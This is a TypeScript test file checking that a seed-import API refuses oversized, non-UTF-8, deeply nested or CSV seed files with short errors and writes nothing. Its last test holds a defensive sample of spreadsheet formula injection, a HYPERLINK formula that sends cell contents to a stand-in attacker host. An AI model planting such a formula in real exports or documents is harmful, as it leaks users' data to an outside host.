import { TRPCError } from "@trpc/server";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createTestDb } from "@/db/testing/testDb";
import { createCaller } from "../api/root";
import { jsonBodyTooLarge } from "../security/apiRoute";

let t: ReturnType<typeof createTestDb>;
let api: ReturnType<typeof createCaller>;
let projectId: number;
beforeEach(async () => {
  t = createTestDb();
  api = createCaller({ db: t.db });
  projectId = (await api.project.create({ name: `Bad files ${Math.random()}` })).id;
  await api.seed.import({
    projectId,
    fileName: "good.txt",
    format: "txt",
    content: "Answer in one word.\nUse no commas.\n",
  });
});
afterEach(() => t.cleanup());

/** Imports `content` and returns the refusal; fails if anything was written. */
async function refused(
  content: string,
  format: "txt" | "jsonl" = "txt",
  fileName = `bad.${format}`,
) {
  const before = (await api.seed.list({ projectId })).length;
  const error = await api.seed.import({ projectId, fileName, format, content }).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(TRPCError);
  expect((await api.seed.list({ projectId })).length).toBe(before);
  const e = error as TRPCError;
  // Clear and short: the message never echoes megabytes of the file back.
  expect(e.message.length).toBeLessThan(600);
  return { code: e.code, message: e.message };
}

describe("bad seed files are refused with a clear message and nothing is written", () => {
  it("a file over 10 MB", async () => {
    const r = await refused("a".repeat(10_000_001));
    expect(r).toMatchObject({
      code: "PAYLOAD_TOO_LARGE",
      message: expect.stringMatching(
        /bad\.txt is 10,000,001 bytes; the limit for a seed file is 10 MB/,
      ),
    });
  });

  it("a request body over the HTTP limit is refused before it is read", () => {
    const limit = 32 * 1024 * 1024;
    const big = new Request("http://127.0.0.1/api/trpc/seed.import", {
      method: "POST",
      headers: { "content-length": String(limit + 1) },
    });
    expect(jsonBodyTooLarge(big, limit)?.status).toBe(413);
    const small = new Request("http://127.0.0.1/api/trpc/seed.import", {
      method: "POST",
      headers: { "content-length": "10" },
    });
    expect(jsonBodyTooLarge(small, limit)).toBeNull();
    expect(jsonBodyTooLarge(new Request("http://127.0.0.1/api/trpc/seed.list"), limit)).toBeNull();
  });

  it("text decoded from bytes that were not UTF-8 (U+FFFD), naming the line", async () => {
    const r = await refused("Answer briefly.\nR\uFFFDponds en fran\uFFFDais.\n");
    expect(r.message).toMatch(/Line 2: Contains U\+FFFD.*not valid UTF-8/);
  });

  it("a single 10 MB line, txt or jsonl", async () => {
    const line = "w".repeat(9_999_000);
    expect((await refused(line)).message).toMatch(
      /Line 1: Seed instruction is 9999000 characters long; the limit is 2000/,
    );
    const json = JSON.stringify({ instruction: line.slice(0, 9_990_000) });
    expect((await refused(json, "jsonl")).message).toMatch(
      /Line 1 \(field "instruction"\): Seed instruction is 9990000 characters/,
    );
    expect(
      (await refused(`{"instruction": "${line.slice(0, 9_990_000)}" oops}`, "jsonl")).message,
    ).toMatch(/Line 1: Invalid JSON: Expected ','/);
  });

  it("JSON nested 10,000 deep: the nesting is ignored (only flat fields become tags); a deep unclosed one is invalid", async () => {
    const deep = `{"instruction": "Answer in exactly three sentences.", "meta": ${"[".repeat(10_000)}${"]".repeat(10_000)}}`;
    await expect(
      api.seed.import({ projectId, fileName: "deep.jsonl", format: "jsonl", content: deep }),
    ).resolves.toEqual({ imported: 1 });
    const seeds = await api.seed.list({ projectId });
    expect(seeds.at(-1)).toMatchObject({ text: "Answer in exactly three sentences.", tags: [] });
    const unclosed = `{"instruction": ${"[".repeat(1_000_000)}`;
    expect((await refused(unclosed, "jsonl")).message).toMatch(/Line 1: Invalid JSON/);
    const deepInstruction = `{"instruction": ${"[".repeat(10_000)}"x"${"]".repeat(10_000)}}`;
    expect((await refused(deepInstruction, "jsonl")).message).toMatch(
      /instruction must be a string/,
    );
  });

  it("a CSV file is refused by format; formula text in a seed stays inert text", async () => {
    const csv = `instruction\n=HYPERLINK("http://evil.example/?q="&A1,"x")\n`;
    const error = await api.seed
      .import({ projectId, fileName: "seeds.csv", format: "csv" as "txt", content: csv })
      .then(
        () => null,
        (e: unknown) => e as TRPCError,
      );
    expect(error?.code).toBe("BAD_REQUEST");
    expect(error?.message).toMatch(/format/);
    // As a .txt line the same text is an (odd) instruction, stored as the characters it is.
    await api.seed.import({
      projectId,
      fileName: "formula.txt",
      format: "txt",
      content: `=HYPERLINK("http://evil.example/?q="&A1,"x")\n`,
    });
    expect((await api.seed.list({ projectId })).at(-1)?.text).toBe(
      `=HYPERLINK("http://evil.example/?q="&A1,"x")`,
    );
  });
});
